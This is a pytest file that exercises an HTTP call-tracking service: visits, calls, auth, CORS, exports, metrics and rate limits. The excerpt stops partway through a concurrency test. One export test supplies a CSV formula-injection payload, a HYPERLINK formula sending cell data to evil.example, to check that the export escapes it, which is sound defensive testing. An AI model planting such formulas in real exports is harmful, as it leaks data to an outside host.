"""The HTTP service: the real app over a real engine and a SQLite file store, through
starlette's TestClient; one test over a real uvicorn server."""
from __future__ import annotations

import csv
import io
import json
import os
import socket
import threading
import time
from urllib.parse import urlencode

import httpx
import pytest
from drain_support import BROWSER, browser_visit
from service_support import metric
from starlette.testclient import TestClient

from k50core import Engine
from k50core.bindings.service import MAX_BODY, VISITOR_COOKIE, create_app
from k50core.cli import app as cli_app, demo_config_path
from k50core.store.journal import lines as journal_lines

KEY = "secret-key-1"
SITE = "https://shop.example.ru"
CAMPAIGN = SITE + "/sale?utm_source=yandex&utm_medium=cpc&utm_campaign=spring_sale"  # the msk dynamic pool
AUTH = {"Authorization": f"Bearer {KEY}"}


@pytest.fixture
def client(engine, clock):
    app = create_app(engine, api_keys=[KEY, "other-key"], cors_origins=[SITE], now=clock)
    with TestClient(app, raise_server_exceptions=False) as c:
        yield c


def visit(client, **body):
    """A visit as the snippet sends it: a browser's, with the claim step a new visitor is asked for."""
    body.setdefault("url", CAMPAIGN)
    return browser_visit(client, **body)


# -- visits ---------------------------------------------------------------------------------
def test_visit_gets_a_number_and_a_cookie(client):
    r = visit(client)
    assert r.status_code == 200
    got = r.json()
    assert got["number"].startswith("+7495") and got["display"].startswith("+7 (495)")
    assert got["token"] and got["ttl"] == 900 and got["shared"] is False
    cookie = r.headers["set-cookie"]
    assert cookie.startswith(f"{VISITOR_COOKIE}={got['visitor_id']};")
    assert "Max-Age=31536000" in cookie and "samesite=lax" in cookie.lower() and "httponly" not in cookie.lower()


def test_same_visitor_same_number(client):
    first = visit(client).json()
    again = visit(client).json()  # the TestClient sends the k50_vid cookie back
    assert again["visitor_id"] == first["visitor_id"] and again["number"] == first["number"]
    other = TestClient(client.app)  # no cookie: a new visitor, another number
    assert visit(other).json()["number"] != first["number"]


def test_body_visitor_id_wins_over_cookie(client):
    visit(client)
    r = visit(client, visitor_id="from-body")
    assert r.json()["visitor_id"] == "from-body"
    assert r.headers["set-cookie"].startswith(f"{VISITOR_COOKIE}=from-body;")


def test_excluded_visit_keeps_page_number(client):
    r = visit(client, user_agent="Mozilla/5.0 (compatible; Googlebot/2.1; +http://www.google.com/bot.html)")
    assert r.status_code == 200
    assert r.json()["number"] is None and r.json()["token"] is None and r.json()["ttl"] is None


def test_heartbeat_keeps_the_lease(client, clock):
    got = visit(client).json()
    clock.t += 800
    assert client.post("/v1/heartbeat", json={"token": got["token"]}).json() == {"alive": True}
    clock.t += 800  # 1600 s after the visit: alive only thanks to the heartbeat (hold 900 s)
    assert client.post("/v1/heartbeat", json={"token": got["token"]}).json() == {"alive": True}
    clock.t += 1000
    assert client.post("/v1/heartbeat", json={"token": got["token"]}).json() == {"alive": False}
    assert client.post("/v1/heartbeat", json={"token": "no-such"}).json() == {"alive": False}


# -- calls ----------------------------------------------------------------------------------
def test_call_attributed_to_the_visit(client, clock):
    r = visit(client)
    got, vid = r.json(), r.cookies.get(VISITOR_COOKIE)
    call = {"call_id": "c-1", "number": got["number"], "caller": "+79161234567",
            "started_at": clock.t + 60, "duration_seconds": 95, "answered": True}
    clock.t += 120
    a = client.post("/v1/calls", json=call, headers=AUTH)
    assert a.status_code == 200
    body = a.json()
    assert body["status"] == "matched" and body["visitor_id"] == vid == got["visitor_id"]
    assert body["rule"] == "spring-campaign" and body["pool"] == "msk" and body["likelihood"] > 0.9
    assert body["attributes"]["utm"]["utm_campaign"] == "spring_sale"
    assert body["candidates"] == [] and body["repeat"] is False and body["first_call_id"] is None
    again = client.post("/v1/calls", json=dict(call, call_id="c-2", started_at=clock.t), headers=AUTH).json()
    assert again["repeat"] is True and again["first_call_id"] == "c-1"


@pytest.mark.parametrize("headers", [{}, {"Authorization": "Bearer wrong"}, {"X-API-Key": "wrong"},
                                     {"Authorization": KEY}, {"X-API-Key": ""}])
def test_private_endpoints_need_a_key(client, headers):
    for method, path in (("POST", "/v1/calls"), ("GET", "/v1/calls"), ("GET", "/v1/pools")):
        r = client.request(method, path, headers=headers, json={} if method == "POST" else None)
        assert r.status_code == 401 and "error" in r.json()
        assert r.headers["www-authenticate"].startswith("Bearer")


def test_x_api_key_header_works(client):
    assert client.get("/v1/pools", headers={"X-API-Key": "other-key"}).status_code == 200


def test_no_keys_configured_means_closed(engine, clock):
    with TestClient(create_app(engine, now=clock)) as c:
        assert c.get("/v1/pools", headers={"X-API-Key": ""}).status_code == 401
        assert c.get("/v1/pools", headers=AUTH).status_code == 401


@pytest.mark.parametrize("path,body,status,field", [
    ("/v1/visit", b"{", 400, None),
    ("/v1/visit", b"", 400, None),
    ("/v1/visit", b"\xff\xfe not utf-8", 400, None),
    ("/v1/visit", b"[" * 5000, 400, None),                   # deep nesting, within the size limit
    ("/v1/visit", b'{"url": NaN}', 400, None),
    ("/v1/visit", b"[1, 2]", 422, "body"),
    ("/v1/visit", b"{}", 422, "url"),
    ("/v1/visit", b'{"url": 5}', 422, "url"),
    ("/v1/visit", b'{"url": "https://x.ru/", "cookies": [1]}', 422, "cookies"),
    ("/v1/visit", b'{"url": "https://x.ru/", "cookies": {"a": 1}}', 422, "cookies"),
    ("/v1/visit", b'{"url": "https://x.ru/", "visitor_id": {"a": 1}}', 422, "visitor_id"),
    ("/v1/visit", b'{"url": "https://x.ru/", "token": true}', 422, "token"),
    ("/v1/heartbeat", b'{"token": 7}', 422, "token"),
    ("/v1/heartbeat", b'"tok"', 422, "body"),
    ("/v1/calls", b"{nope", 400, None),
    ("/v1/calls", b'{"call_id": "x", "number": "abc", "started_at": -1}', 422, "number"),
    ("/v1/calls", b'{"call_id": 5, "number": "+74950000001", "started_at": 1}', 422, "call_id"),
    ("/v1/calls", b'{"call_id": "x", "number": "+74950000001", "started_at": "soon"}', 422, "started_at"),
    ("/v1/calls", b'{"call_id": "x", "number": "+74950000001", "started_at": 1, "answered": "yes"}', 422,
     "answered"),
    ("/v1/calls", b"[]", 422, "body"),
])
def test_bad_requests_are_4xx_json(client, path, body, status, field):
    r = client.post(path, content=body, headers={**AUTH, "Content-Type": "application/json"})
    assert r.status_code == status, r.text
    got = r.json()
    assert isinstance(got["error"], str) and "Traceback" not in r.text
    if field is not None:
        assert field in [p["field"] for p in got["problems"]] and all(p["message"] for p in got["problems"])


@pytest.mark.parametrize("path,body,loc", [
    ("/v1/visit", b'{"url": "https://x.ru/", "cookies": {"a": 1}}', ["body", "cookies"]),
    ("/v1/visit", b'{"url": "https://x.ru/", "visitor_id": "a\\u0000b"}', ["body", "visitor_id"]),
    ("/v1/visit", b'{"visitor_id": "v1"}', ["body", "url"]),
    ("/v1/visit", b'{"url": "https://x.ru/", "claim": 7}', ["body", "claim"]),
    ("/v1/heartbeat", b'{"token": ""}', ["body", "token"]),
    ("/v1/heartbeat", b"[]", ["body"]),
])
def test_a_bad_body_names_each_fault_with_its_loc(client, path, body, loc):
    r = client.post(path, content=body, headers={"Content-Type": "application/json"})
    assert r.status_code == 422, r.text
    (problem,) = r.json()["problems"]
    assert problem["loc"][:len(loc)] == loc and problem["field"] == (loc[1] if len(loc) > 1 else "body")


def test_nan_anywhere_in_a_body_is_not_json(client):
    for body in (b'{"url": "https://x.ru/", "extra": NaN}', b'{"token": "1.2", "x": [-Infinity]}'):
        assert client.post("/v1/visit", content=body, headers={"Content-Type": "application/json"}).status_code == 400
    ok = client.post("/v1/visit", content=b'{"url": "https://x.ru/?q=NaN+Infinity"}',
                     headers={"Content-Type": "application/json"})
    assert ok.status_code == 200, ok.text


def test_oversized_body_is_413(client):
    big = b'{"url": "https://x.ru/", "referrer": "' + b"a" * MAX_BODY + b'"}'
    r = client.post("/v1/visit", content=big, headers={"Content-Type": "application/json"})
    assert r.status_code == 413 and "error" in r.json()

    def chunks():  # no Content-Length: counted while read
        yield b'{"url": "https://x.ru/", "referrer": "'
        for _ in range(40):
            yield b"a" * 1024
        yield b'"}'
    r = client.post("/v1/calls", content=chunks(), headers=AUTH)
    assert r.status_code == 413


def test_unknown_route_and_method_are_json(client):
    assert client.get("/nope").status_code == 404 and client.get("/nope").json() == {"error": "not found"}
    r = client.put("/v1/visit", json={})
    assert r.status_code == 405 and r.json()["error"] == "method not allowed"


def test_a_bug_is_500_internal_without_details(engine, clock, caplog):
    def broken(*a, **k):
        raise RuntimeError("secret internals")
    engine.heartbeat = broken
    with TestClient(create_app(engine, now=clock), raise_server_exceptions=False) as c:
        r = c.post("/v1/heartbeat", json={"token": "0.1.1"})
    assert r.status_code == 500 and r.json() == {"error": "internal"} and "secret" not in r.text
    assert "secret internals" in caplog.text  # the traceback is logged


# -- CORS -----------------------------------------------------------------------------------
def test_cors_allowed_origin_gets_headers(client):
    r = client.post("/v1/visit", json={"url": CAMPAIGN}, headers={"Origin": SITE})
    assert r.headers["access-control-allow-origin"] == SITE
    assert r.headers["access-control-allow-credentials"] == "true" and "Origin" in r.headers["vary"]


def test_cors_other_origin_gets_none(client):
    r = client.post("/v1/visit", json={"url": CAMPAIGN}, headers={"Origin": "https://evil.example", **BROWSER})
    assert r.status_code == 403 and "access-control-allow-origin" not in r.headers   # and it takes nothing
    r = client.get("/v1/pools", headers={**AUTH, "Origin": SITE})  # private endpoints: never CORS
    assert "access-control-allow-origin" not in r.headers


def test_cors_preflight(client):
    asks = {"Origin": SITE, "Access-Control-Request-Method": "POST", "Access-Control-Request-Headers": "content-type"}
    r = client.options("/v1/visit", headers=asks)
    assert r.status_code == 204
    assert r.headers["access-control-allow-origin"] == SITE
    assert "POST" in r.headers["access-control-allow-methods"]
    assert "content-type" in r.headers["access-control-allow-headers"].lower()
    r = client.options("/v1/heartbeat", headers=dict(asks, Origin="https://evil.example"))
    assert r.status_code == 403 and "access-control-allow-origin" not in r.headers
    assert r.json() == {"error": "origin not allowed"}


def test_cors_any_origin_is_echoed_with_credentials_and_preflights_are_counted(engine, clock):
    """cors_origins=["*"]: any site, but by name (a cookie goes with the request: "*" would be refused by
    browsers); a method other than POST is refused; preflights count in the request metric."""
    app = create_app(engine, api_keys=[KEY], cors_origins=["*"], now=clock, rate_limits=None)
    anywhere = {"Origin": "https://any.example"}
    with TestClient(app) as c:
        r = c.options("/v1/visit", headers={**anywhere, "Access-Control-Request-Method": "POST"})
        assert r.status_code == 204 and r.headers["access-control-allow-origin"] == "https://any.example"
        assert r.headers["access-control-allow-credentials"] == "true" and r.content == b""
        r = c.options("/v1/visit", headers={**anywhere, "Access-Control-Request-Method": "DELETE"})
        assert r.status_code == 405 and r.json() == {"error": "method DELETE not allowed"}
        r = c.post("/v1/visit", json={"url": CAMPAIGN}, headers={**anywhere, **BROWSER})
        assert r.status_code == 200 and r.headers["access-control-allow-origin"] == "https://any.example"
        text = c.get("/metrics", headers=AUTH).text
        assert metric(text, "k50_http_requests_total", route="/v1/visit", method="OPTIONS", status="204") == 1
        assert metric(text, "k50_http_requests_total", route="/v1/visit", method="OPTIONS", status="405") == 1


# -- export ---------------------------------------------------------------------------------
def _three_calls(client, clock):
    numbers = [visit(TestClient(client.app), visitor_id=f"v{i}").json()["number"] for i in range(3)]
    for i, n in enumerate(numbers):
        call = {"call_id": f"call-{i}", "number": n, "caller": f"+7916000000{i}", "started_at": clock.t + 10 + i,
                "duration_seconds": 30}
        assert client.post("/v1/calls", json=call, headers=AUTH).status_code == 200
    unmatched = {"call_id": "call-x", "number": "+74950000001", "started_at": clock.t - 100_000}
    assert client.post("/v1/calls", json=unmatched, headers=AUTH).json()["status"] == "unmatched"


def test_export_json_with_pagination(client, clock):
    _three_calls(client, clock)
    q = {"since": clock.t, "status": "matched", "limit": 2}
    page = client.get("/v1/calls", params=q, headers=AUTH).json()
    assert [c["call_id"] for c in page["calls"]] == ["call-0", "call-1"] and page["next_cursor"]
    assert page["calls"][0]["status"] == "matched" and page["calls"][0]["visitor_id"] == "v0"
    rest = client.get("/v1/calls", params=dict(q, cursor=page["next_cursor"]), headers=AUTH).json()
    assert [c["call_id"] for c in rest["calls"]] == ["call-2"] and rest["next_cursor"] is None
    everything = client.get("/v1/calls", headers=AUTH).json()["calls"]
    assert [c["call_id"] for c in everything] == ["call-x", "call-0", "call-1", "call-2"]
    until = client.get("/v1/calls", params={"until": clock.t}, headers=AUTH).json()["calls"]
    assert [c["call_id"] for c in until] == ["call-x"]


def test_export_csv(client, clock):
    _three_calls(client, clock)
    r = client.get("/v1/calls", params={"format": "csv", "status": "matched", "limit": 2}, headers=AUTH)
    assert r.status_code == 200 and r.headers["content-type"].startswith("text/csv")
    rows = list(csv.DictReader(io.StringIO(r.text)))
    assert [row["call_id"] for row in rows] == ["call-0", "call-1"]
    assert rows[0]["status"] == "matched" and rows[0]["utm_campaign"] == "spring_sale" and rows[0]["visitor_id"] == "v0"
    cursor = r.headers["x-next-cursor"]
    r = client.get("/v1/calls", params={"status": "matched", "cursor": cursor}, headers={**AUTH, "Accept": "text/csv"})
    assert [row["call_id"] for row in csv.DictReader(io.StringIO(r.text))] == ["call-2"]


# -- plausible values ---------------------------------------------------------------------------
DAY = 86400


@pytest.mark.parametrize("change,field", [
    ({"started_at": 1e300}, "started_at"),                    # stored, and then beyond the export's end
    ({"started_at": 10 ** 30}, "started_at"),
    ({"started_at": "T0+2d"}, "started_at"),                   # telephony clocks are wrong by hours, not days
    ({"started_at": "T0-401d"}, "started_at"),
    ({"duration_seconds": DAY + 1}, "duration_seconds"),
    ({"duration_seconds": 1e300}, "duration_seconds"),
])
def test_implausible_calls_are_422(client, clock, engine, change, field):
    call = {"call_id": "odd", "number": "+74950000001", "started_at": clock.t, "duration_seconds": 60}
    for k, v in change.items():
        call[k] = {"T0+2d": clock.t + 2 * DAY, "T0-401d": clock.t - 401 * DAY}.get(v, v) if isinstance(v, str) else v
    r = client.post("/v1/calls", json=call, headers=AUTH)
    assert r.status_code == 422, r.text
    assert [p["field"] for p in r.json()["problems"]] == [field]
    assert engine.store.count("calls") == 0


def test_calls_at_the_edges_of_plausible_are_stored_and_exported(client, clock):
    edges = {"old": clock.t - 400 * DAY, "ahead": clock.t + DAY, "long": clock.t}
    for cid, at in edges.items():
        call = {"call_id": cid, "number": "+74950000001", "started_at": at,
                "duration_seconds": DAY if cid == "long" else 30}
        assert client.post("/v1/calls", json=call, headers=AUTH).status_code == 200
    rows = client.get("/v1/calls", headers=AUTH).json()["calls"]
    assert [r["call_id"] for r in rows] == ["old", "long", "ahead"]
    text = client.get("/v1/calls", params={"format": "csv"}, headers=AUTH).text
    assert [r["call_id"] for r in csv.DictReader(io.StringIO(text))] == ["old", "long", "ahead"]


def test_export_csv_escapes_formulas_from_the_public_visit(client, clock):
    """utm values and the _ga cookie reach the export from anyone's browser: in the CSV every cell that
    starts with = + - @ tab or CR gets a leading quote (OWASP), E.164 numbers too; the JSON is as given."""
    query = urlencode({"utm_source": '=HYPERLINK("http://evil.example/?"&A1,"open")', "utm_medium": "+1+cmd",
                       "utm_campaign": "-2+3", "gclid": "x"})   # an ad click id: the ads rule, a msk number
    shown = browser_visit(client, "/v1/visit", url=f"{SITE}/sale?{query}", visitor_id="@vid",
                          cookies={"_ga": "GA1.1.\t=1+1.@SUM(A1)"}).json()
    call = {"call_id": "csv-1", "number": shown["number"], "caller": "+79161234567", "started_at": clock.t + 5}
    assert client.post("/v1/calls", json=call, headers=AUTH).json()["status"] == "matched"
    text = client.get("/v1/calls", params={"format": "csv"}, headers=AUTH).text
    (row,) = list(csv.DictReader(io.StringIO(text)))
    assert row["utm_source"] == '\'=HYPERLINK("http://evil.example/?"&A1,"open")'
    assert (row["utm_medium"], row["utm_campaign"]) == ("'+1+cmd", "'-2+3")
    assert row["ga_client_id"] == "'\t=1+1.@SUM(A1)" and row["visitor_id"] == "'@vid"
    assert row["number"] == "'" + shown["number"] and row["caller"] == "'+79161234567"
    for cells in csv.reader(io.StringIO(text)):
        assert all(cell[:1] not in ("=", "+", "-", "@", "\t", "\r") for cell in cells), cells
    (plain,) = client.get("/v1/calls", headers=AUTH).json()["calls"]      # JSON: the values themselves
    assert plain["number"] == shown["number"] and plain["attributes"]["utm"]["utm_campaign"] == "-2+3"


def test_a_crowded_number_answers_a_bounded_ambiguous_call(engine, clock):
    """500 visitors on the demo's 10 numbers (shared when exhausted): a call to one of them is answered
    with its 20 likeliest candidates and the count of the rest, not with everyone."""
    for i in range(500):
        engine.assign({"visitor_id": f"crowd{i:03d}", "url": CAMPAIGN}, now=clock.t + i)
    with TestClient(create_app(engine, api_keys=[KEY], now=clock)) as c:
        clock.t += 600
        r = c.post("/v1/calls", json={"call_id": "crowd", "number": "+74950000001", "started_at": clock.t - 10},
                   headers=AUTH)
        got = r.json()
        assert got["status"] == "ambiguous" and len(got["candidates"]) == 20
        assert got["more_candidates"] >= 20 and len(got["candidates"]) + got["more_candidates"] >= 45
        assert len(r.content) < 8_000                     # ~150 bytes a candidate, whatever the crowd
        again = c.post("/v1/calls", json={"call_id": "crowd", "number": "+74950000001",
                                          "started_at": clock.t - 10}, headers=AUTH).json()
        assert again == got                                # a retried webhook: the answer recorded


@pytest.mark.parametrize("query,field", [({"since": "yesterday"}, "since"), ({"until": "nan"}, "until"),
                                         ({"status": "great"}, "status"), ({"limit": "0"}, "limit"),
                                         ({"limit": "10000"}, "limit"), ({"cursor": "!!notacursor"}, "cursor"),
                                         ({"cursor": "WzEsMl0"}, "cursor"), ({"format": "xml"}, "format")])
def test_export_bad_query(client, query, field):
    r = client.get("/v1/calls", params=query, headers=AUTH)
    assert r.status_code == 400 and field in [p["field"] for p in r.json()["problems"]]
    assert all(p["loc"] == ["query", p["field"]] for p in r.json()["problems"])   # where, as a body's 422 says it


@pytest.mark.parametrize("path, query, field", [("/v1/reports", {"by": "query.gclid"}, "by"),
                                                ("/v1/reports", {"since": "someday"}, "since"),
                                                ("/v1/pools/usage", {"step": "inf"}, "step"),
                                                ("/v1/calls", {"format": "xml"}, "format")])
def test_a_bad_query_names_each_parameter_with_its_loc(client, path, query, field):
    r = client.get(path, params=query, headers=AUTH)
    assert r.status_code == 400
    assert {"field": field, "loc": ["query", field]}.items() <= r.json()["problems"][0].items()


# -- reports and operations -------------------------------------------------------------------
def test_pools(client):
    visit(client)
    got = client.get("/v1/pools", headers=AUTH).json()
    msk = got["pools"]["msk"]
    assert msk["type"] == "dynamic" and msk["numbers"] == 10 and msk["leased"] == 1 and msk["free"] == 9
    assert msk["utilisation"] == 0.1 and msk["exhausted_shared"] == 0
    assert got["pools"]["direct"]["type"] == "static" and got["pools"]["paper"]["type"] == "offline"


def test_healthz(client):
    r = client.get("/healthz")
    assert r.status_code == 200 and r.json()["status"] == "ok"
    assert "pid" not in r.json() and str(os.getpid()) not in r.text    # open to anyone: no process details


def test_metrics_are_private(engine, clock):
    """/metrics (pool sizes, traffic, the process id) needs a key, as /v1/pools does; a scrape-only
    metrics key opens it and nothing else."""
    app = create_app(engine, api_keys=[KEY], metrics_keys=["scrape-only"], now=clock)
    with TestClient(app) as c:
        for headers in ({}, {"X-API-Key": "wrong"}, {"Authorization": "Bearer "}):
            r = c.get("/metrics", headers=headers)
            assert r.status_code == 401 and r.json()["error"] and "k50_" not in r.text
        assert c.get("/metrics", headers=AUTH).status_code == 200
        scraped = c.get("/metrics", headers={"Authorization": "Bearer scrape-only"})
        assert scraped.status_code == 200 and metric(scraped.text, "k50_process", pid=str(os.getpid())) == 1
        assert c.get("/v1/pools", headers={"X-API-Key": "scrape-only"}).status_code == 401
        assert c.get("/v1/calls", headers={"X-API-Key": "scrape-only"}).status_code == 401


@pytest.mark.parametrize("path", ["/v1/visit", "/v1/heartbeat", "/v1/calls"])
def test_a_malformed_content_length_is_a_json_400(client, path):
    r = client.post(path, content=b'{"url": "https://x.ru/"}', headers={**AUTH, "Content-Length": "abc"})
    assert r.status_code == 400 and r.json()["error"] == "bad Content-Length"


def test_the_served_service_answers_unparsable_requests_with_json(tmp_path):
    """`k50core serve`: uvicorn refuses a request it cannot parse before the app sees it; its answer is
    the service's JSON error, not a bare text/plain 400."""
    proc, base = start_serve("--store", str(tmp_path / "k50.db"), "--api-key", KEY)
    try:
        port = int(base.rsplit(":", 1)[1])
        for head in (b"POST /v1/calls HTTP/1.1\r\nHost: k50\r\nX-API-Key: " + KEY.encode() +
                     b"\r\nContent-Type: application/json\r\nContent-Length: abc\r\n\r\n{}",
                     b"POST /v1/visit HTTP/1.1\r\nHost: k50\r\nContent-Length: abc\r\n\r\n{}",
                     b"GET /healthz HTTP/1.1\r\nHost: k50\r\nBad Header\r\n\r\n"):
            with socket.create_connection(("127.0.0.1", port), timeout=10) as s:
                s.sendall(head)
                answer = b""
                while chunk := s.recv(65536):
                    answer += chunk
            status, _, rest = answer.partition(b"\r\n")
            headers, _, body = rest.partition(b"\r\n\r\n")
            assert status.startswith(b"HTTP/1.1 400"), answer
            assert b"content-type: application/json" in headers.lower()
            assert json.loads(body)["error"].startswith("invalid HTTP request")
        assert httpx.get(f"{base}/healthz").json()["status"] == "ok"        # and it serves on
    finally:
        proc.terminate()
        proc.wait(timeout=30)


def test_metrics(client, clock):
    for i in range(12):  # msk has 10 numbers and shares when exhausted
        visit(TestClient(client.app), visitor_id=f"m{i}")
    client.post("/v1/calls", json={"call_id": "m", "number": "+74950000001", "started_at": clock.t - 99_999},
                headers=AUTH)
    client.post("/v1/calls", json={}, headers={"X-API-Key": "nope"})
    r = client.get("/metrics", headers=AUTH)
    assert r.status_code == 200 and r.headers["content-type"].startswith("text/plain")
    text = r.text
    assert '# TYPE k50_http_requests_total counter' in text
    assert metric(text, "k50_http_requests_total", route="/v1/visit", method="POST", status="200") == 24  # ticket, claim
    assert metric(text, "k50_assignments_total", pool="msk", outcome="ticket") == 12
    assert metric(text, "k50_http_requests_total", route="/v1/calls", method="POST", status="401") == 1
    assert metric(text, "k50_assignments_total", pool="msk", outcome="dynamic") == 10
    assert metric(text, "k50_assignments_total", pool="msk", outcome="shared") == 2
    assert metric(text, "k50_pool_exhausted_total", pool="msk", policy="share") == 2
    assert metric(text, "k50_calls_total", status="unmatched") == 1
    assert metric(text, "k50_pool_leased", pool="msk") == 10
    assert metric(text, "k50_holder_index_overflowed") == 0


def test_openapi_lists_the_paths(client):
    doc = client.get("/openapi.json").json()
    assert doc["openapi"].startswith("3.")
    assert {"/v1/visit", "/v1/heartbeat", "/v1/calls", "/v1/pools", "/healthz", "/metrics"} <= set(doc["paths"])
    assert set(doc["paths"]["/v1/calls"]) == {"get", "post"}


def test_forwarded_for_only_from_trusted_proxies(engine, clock):
    # the office rule excludes 203.0.113.0/24: an excluded visit shows where the IP came from
    office = {"X-Forwarded-For": "203.0.113.7"}
    with TestClient(create_app(engine, now=clock)) as c:  # the peer is "testclient": not a proxy we trust
        assert browser_visit(c, headers=office, url=CAMPAIGN).json()["number"] is not None
    app = create_app(engine, now=clock, trusted_proxies=["10.0.0.0/8"])
    with TestClient(app, client=("10.0.0.1", 5000)) as c:
        assert browser_visit(c, headers=office, url=CAMPAIGN).json()["number"] is None


def test_app_from_config_owns_its_engine(tmp_path, clock):
    app = create_app(config=str(demo_config_path()), store=str(tmp_path / "own.db"), now=clock)
    with TestClient(app) as c:
        assert browser_visit(c, url=CAMPAIGN).json()["number"]
    assert (tmp_path / "own.db").exists()
    with pytest.raises(ValueError):
        create_app()


def test_cli_serve_help():
    from typer.testing import CliRunner
    r = CliRunner().invoke(cli_app, ["serve", "--help"])
    assert r.exit_code == 0 and "--api-key" in r.output and "--demo" in r.output and "--port" in r.output


# -- a real server ----------------------------------------------------------------------------
def test_real_server_over_http(engine):
    import uvicorn

    with socket.socket() as s:
        s.bind(("127.0.0.1", 0))
        port = s.getsockname()[1]
    server = uvicorn.Server(uvicorn.Config(create_app(engine, api_keys=[KEY]), host="127.0.0.1", port=port,
                                           log_level="warning", lifespan="on"))
    thread = threading.Thread(target=server.run, daemon=True)
    thread.start()
    try:
        deadline = time.time() + 10
        while not server.started and time.time() < deadline:
            time.sleep(0.02)
        assert server.started
        r = browser_visit(httpx, f"http://127.0.0.1:{port}/v1/visit", url=CAMPAIGN)
        assert r.status_code == 200 and r.json()["number"].startswith("+7495")
        assert r.cookies.get(VISITOR_COOKIE) == r.json()["visitor_id"]
    finally:
        server.should_exit = True
        thread.join(10)
    assert not thread.is_alive()


def test_export_pages_on_each_backend(store_url, clock):
    """Store.calls_page (the export's query) over SQLite and PostgreSQL alike."""
    e = Engine.from_config(demo_config_path(), store=store_url)
    try:
        with TestClient(create_app(e, api_keys=[KEY], now=clock)) as c:
            _three_calls(c, clock)
            seen, cursor = [], None
            while True:
                page = c.get("/v1/calls", params={"limit": 1, "status": "matched", **({"cursor": cursor} if cursor
                                                                                      else {})}, headers=AUTH).json()
                seen += [row["call_id"] for row in page["calls"]]
                cursor = page["next_cursor"]
                if cursor is None:
                    break
            assert seen == ["call-0", "call-1", "call-2"]
    finally:
        e.close()


def test_a_flood_gets_the_site_number_and_takes_nothing(engine, clock):
    """Per-IP and per-visitor limits: over them a visit is answered with the site's own number,
    counted, and no pool number is taken. A visitor holding a live lease is not limited: its
    repeats renew its one number."""
    app = create_app(engine, api_keys=[KEY], now=clock, rate_limits=(60.0, 10.0))   # bursts of 30 and 5
    with TestClient(app, raise_server_exceptions=False) as c:
        held = [visit(c, visitor_id="keeper").json() for _ in range(8)]  # a ticket and its claim, then 7 returns
        assert len({(a["number"], a["token"]) for a in held}) == 1 and held[0]["token"]
        plain = SITE + "/about"  # no rule matches: no lease, so every repeat is a new visit
        answers = [c.post("/v1/visit", json={"url": plain, "visitor_id": "flood"}, headers=BROWSER).json()
                   for _ in range(8)]
        assert [a["number"] for a in answers] == [None] * 5 + [engine.config.default_number] * 3
        fresh = [c.post("/v1/visit", json={"url": CAMPAIGN, "visitor_id": f"bot{i}"}, headers=BROWSER).json()
                 for i in range(40)]
        limited = sum(a["number"] == engine.config.default_number for a in fresh)
        assert limited == 40 + 2 + 8 - 30 and all(a.get("claim") for a in fresh[:40 - limited])  # burst of 30 spent
        claims = c.get("/v1/pools", headers={"X-API-Key": KEY}).json()
        assert sum(p.get("claims", 0) for p in claims["pools"].values()) <= 30
        metrics = c.get("/metrics", headers={"X-API-Key": KEY}).text
        assert metric(metrics, "k50_visits_rate_limited_total", limit="visitor") == 3
        assert metric(metrics, "k50_visits_rate_limited_total", limit="ip") == limited


def start_serve(*args: str):
    """`python -m k50core.cli serve --demo ARGS` on a free port, answering /healthz: (process, base URL)."""
    import os
    import subprocess
    import sys

    with socket.socket() as s:
        s.bind(("127.0.0.1", 0))
        port = s.getsockname()[1]
    env = dict(os.environ, PYTHONPATH=os.pathsep.join(sys.path))
    proc = subprocess.Popen([sys.executable, "-m", "k50core.cli", "serve", "--demo", "--port", str(port),
                             "--log-level", "warning", *args], env=env,
                            stdout=subprocess.DEVNULL, stderr=subprocess.DEVNULL)
    base = f"http://127.0.0.1:{port}"
    for _ in range(300):
        try:
            if httpx.get(f"{base}/healthz", timeout=1).status_code == 200:
                return proc, base
        except httpx.HTTPError:
            time.sleep(0.1)
    proc.kill()
    proc.wait(timeout=30)
    raise AssertionError("the service did not start")


def worker_pid(client, base):
    """The id of the worker process that answered: in the private /metrics (the open /healthz has none)."""
    from prometheus_client.parser import text_string_to_metric_families

    text = client.get(f"{base}/metrics", headers=AUTH).text
    (pid,) = [s.labels["pid"] for f in text_string_to_metric_families(text) for s in f.samples
              if s.name == "k50_process" and s.value == 1]
    return int(pid)


def test_workers_share_one_pool(tmp_path):
    """`serve --workers 2`: two processes, one SQLite store and one pool segment beside it; concurrent
    visits never get the same unshared number, and a call is attributed whichever worker answers."""
    from concurrent.futures import ThreadPoolExecutor

    proc, base = start_serve("--workers", "2", "--store", str(tmp_path / "k50.db"), "--api-key", KEY)
    try:
        def one(i):
            with httpx.Client() as c:  # a connection each: the workers take turns accepting
                got = browser_visit(c, f"{base}/v1/visit", url=CAMPAIGN, visitor_id=f"w{i}").json()
                return got, worker_pid(c, base)

        with ThreadPoolExecutor(8) as pool:
            answers = list(pool.map(one, range(24)))
        unshared = [a["number"] for a, _ in answers if a["token"] and not a["shared"]]
        assert unshared and len(unshared) == len(set(unshared))     # one pool across the workers
        pids = {pid for _, pid in answers}
        for _ in range(200):  # the kernel picks the accepting worker: ask until both answered
            if len(pids) == 2:
                break
            with httpx.Client() as c:
                pids.add(worker_pid(c, base))
        assert len(pids) == 2 and proc.pid not in pids          # two workers served, the CLI only manages
        first = answers[0][0]
        got = httpx.post(f"{base}/v1/calls", headers=AUTH,
                         json={"call_id": "w-call", "number": first["number"], "started_at": time.time(),
                               "duration_seconds": 30}).json()
        assert got["status"] in ("matched", "ambiguous")
        assert "w0" in [got["visitor_id"]] + [c["visitor_id"] for c in got.get("candidates", [])]
    finally:
        proc.terminate()
        proc.wait(timeout=30)


def test_concurrent_new_visitors_are_safe_before_their_numbers_are_shown(store_url, clock):
    """Many visits at once through the ASGI app: when an answer arrives, another connection
    already finds the visit in the store (PostgreSQL: group commit) or, with a SQLite file, in
    the engine's journal on disk; the store has them all once the app stops, the journal is gone."""
    import asyncio
    import glob
    import json

    from k50core.store import open_store

    e = Engine.from_config(demo_config_path(), store=store_url)
    app = create_app(e, now=clock, rate_limits=None)
    missing = []
    journaled = set()

    def on_disk_journal():
        found = set()
        for path in glob.glob(glob.escape(e.store.path) + ".starts-*"):
            found.update(json.loads(line)[0]["visitor_id"] for line in journal_lines(path))
        return found

    async def run():
        async with app.router.lifespan_context(app):
            transport = httpx.ASGITransport(app=app)
            async with httpx.AsyncClient(transport=transport, base_url="http://k50") as client:
                with open_store(store_url) as reader:
                    async def one(i):
                        body = {"url": CAMPAIGN, "visitor_id": f"c{i}"}
                        r = await client.post("/v1/visit", json=body, headers=BROWSER)
                        r = await client.post("/v1/visit", json=dict(body, claim=r.json()["claim"]), headers=BROWSER)
